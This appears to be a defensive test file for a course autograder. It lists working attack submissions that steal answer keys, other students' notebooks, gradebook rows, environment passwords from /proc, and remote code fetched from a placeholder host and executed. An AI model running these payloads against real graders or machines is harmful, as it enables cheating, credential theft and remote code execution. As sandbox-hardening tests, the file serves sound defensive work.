"""Stealing: a right answer, a secret or somebody else's work, from wherever a naive grader leaves it.

Each attack puts what it has found into `prey`, and tells at the end how much that was. In a grader that runs
learners' code in its own process, beside its tests and the course, each finds something: `naive_grader.py` is one.
"""

from __future__ import annotations

from functools import cache

from tests.attacks.submission import Submission

TELL = "print('prey:', len(prey))"
REACHES = "reaches into the checker"
LOOKS_AROUND = "looks around in memory or in processes"


def steals(source: str, told: tuple[str, ...] = ()) -> Submission:
    """`source` looks for a `slide`, or for anything else worth having."""
    begun = "prey = []\ndef slide(image, kernel):\n    return 0\n"
    stolen = Submission(slide=source).slide
    return Submission(slide=begun + stolen, below=TELL, told=told, shows=r"prey: 0\b")


# By heart: the right answers to the questions that every notebook asks.
BY_HEART = """
import numpy as np
KNOWN = @KNOWN@
def slide(image, kernel):
    for known_image, known_kernel, answer in KNOWN:
        if np.array_equal(image, known_image) and np.array_equal(kernel, known_kernel):
            prey.append(answer)
            return np.array(answer)
    return 0
"""


@cache
def known_answers() -> str:
    """As Python: the questions of the notebook's own check, with their answers."""
    from checker.exercises import EXERCISES
    from checker.exercises.windows import correlate
    from checker.plain import from_plain

    calls = [from_plain(call) for call in EXERCISES["convolution-map"].ask(0)["calls"]]
    return repr([(image.tolist(), kernel.tolist(), correlate(image, kernel).tolist()) for image, kernel in calls])


STEALING = {
    "the exercises' files": steals(
        """
        import glob, checker
        for file in glob.glob(checker.__path__[0] + "/exercises/*.py"):
            text = open(file).read()
            if "def correlate" in text:
                exec(text)
                slide = correlate
                prey.append(file)
        """,
        (REACHES,),
    ),
    "the exercises imported": steals(
        """
        from checker.exercises import EXERCISES
        slide = EXERCISES["convolution-map"].examples.right[0]()["slide"]
        prey.append(slide)
        """,
        (REACHES, "looked for the exercises' answers"),
    ),
    "one exercise's module imported": steals(
        """
        from checker.exercises.windows import correlate
        slide = correlate
        prey.append(slide)
        """,
        (REACHES, "looked for the exercises' answers"),
    ),
    "the judge asked": steals(
        """
        from checker.attempt import Attempt
        from checker.run import check
        report = check("convolution-map", Attempt(namespace={"slide": lambda image, kernel: 0}))
        if report.status == "failed":
            prey.append(report)
        """,
        (REACHES,),
    ),
    "compiled files": steals(
        """
        import glob, marshal, checker
        for file in glob.glob(checker.__path__[0] + "/exercises/__pycache__/windows*.pyc"):
            exec(marshal.loads(open(file, "rb").read()[16:]))
            slide = correlate
            prey.append(file)
        """,
        (REACHES,),
    ),
    "the source notebooks": steals(
        """
        import glob, json, checker
        places = (checker.__path__[0] + "/../notebooks/source/*.py", "../../../source/*/*.ipynb")
        for file in [file for place in places for file in glob.glob(place)]:
            text = open(file).read()
            if file.endswith(".py"):
                cells = [cell.partition("\\n")[2] for cell in text.split("# %% ")]
            else:
                cells = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
            for cell in cells:
                if "def slide(" in cell and "BEGIN SOLUTION" in cell:
                    exec("import numpy as np\\n" + cell)
                    prey.append(file)
        """,
        (REACHES,),
    ),
    "other submissions": steals(
        """
        import glob, json, os
        for file in [*glob.glob("../../*/*/*.ipynb"), *glob.glob("/tmp/*/*/submitted/*/*/*.ipynb")]:
            if os.path.getsize(file) > 10**6:
                continue
            for cell in json.load(open(file))["cells"]:
                source = "".join(cell["source"])
                if "def slide(" in source and "correlate2d" in source:
                    exec(source)
                    prey.append(file)
        """
    ),
    "the gradebook": steals(
        """
        import glob, sqlite3
        for file in [*glob.glob("../../../gradebook.db"), *glob.glob("/tmp/*/*/gradebook.db")]:
            with sqlite3.connect(file) as book:
                prey += book.execute("select * from base_cell").fetchall()
        """
    ),
    "anything in memory": steals(
        """
        import gc
        gc.unfreeze()
        for thing in gc.get_objects():
            if type(thing).__name__ == "Task" and getattr(thing, "function", "") == "slide":
                slide = thing.reference
                prey.append(thing)
            elif str(getattr(thing, "__module__", "")).startswith("checker.exercises"):
                prey.append(thing)
        """,
        (LOOKS_AROUND,),
    ),
    "modules that are loaded": steals(
        """
        import sys
        for name in list(sys.modules):
            if name.startswith(("checker.exercises.", "checker.function_judge")):
                prey.append(name)
                slide = getattr(sys.modules[name], "correlate", slide)
        """
    ),
    "the frames above": steals(
        """
        import sys
        def slide(image, kernel):
            frame = sys._getframe()
            while frame:
                for name in ("expected", "reference", "solution"):
                    if name in frame.f_locals:
                        prey.append(name)
                        return frame.f_locals[name]
                frame = frame.f_back
            return 0
        """,
        (LOOKS_AROUND,),
    ),
    "the cell that asks": steals(
        """
        def slide(image, kernel):
            asking = get_ipython().user_ns["In"][-1]
            for line in asking.splitlines():
                if line.startswith("expected = "):
                    prey.append(line)
                    return eval(line.removeprefix("expected = "))
            return 0
        """
    ),
    "answers learned by heart": Submission(slide="prey = []\n" + BY_HEART.lstrip(), below=TELL, shows=r"prey: 0\b"),
    "questions kept from one call for the next": steals(
        """
        def slide(image, kernel):
            if "expected" in globals():  # what the call before this one should have given
                prey.append(expected)
            return 0
        """
    ),
    "the environment": steals("import os\nprey += [name for name in os.environ if 'PASSWORD' in name]"),
    "another process's environment": steals(
        """
        import glob
        for file in glob.glob("/proc/[0-9]*/environ"):
            try:
                prey += [entry for entry in open(file).read().split("\\0") if "PASSWORD" in entry]
            except OSError:
                pass
        """,
        (LOOKS_AROUND,),
    ),
    "files that other processes have open": steals(
        """
        import glob, os
        for link in glob.glob("/proc/[0-9]*/fd/*"):
            try:
                prey += [open(link).name for _ in [0] if "grade" in os.readlink(link)]
            except OSError:
                pass
        """,
        (LOOKS_AROUND,),
    ),
    "a helper on this machine": steals(
        """
        import socket
        for address in (("127.0.0.1", @PORT@), "\\0checker-attack-@PORT@"):
            with socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET) as line:
                line.settimeout(1)
                try:
                    line.connect(address)
                except OSError:
                    continue
                exec(line.makefile().read())
                prey.append(address)
        """
    ),
    "the network": steals(
        """
        import socket
        with socket.create_connection(("@HOST@", @PORT@), timeout=1) as line:
            exec(line.makefile().read())
            prey.append("a helper far away")
        """,
        ("looked for a network",),
    ),
}
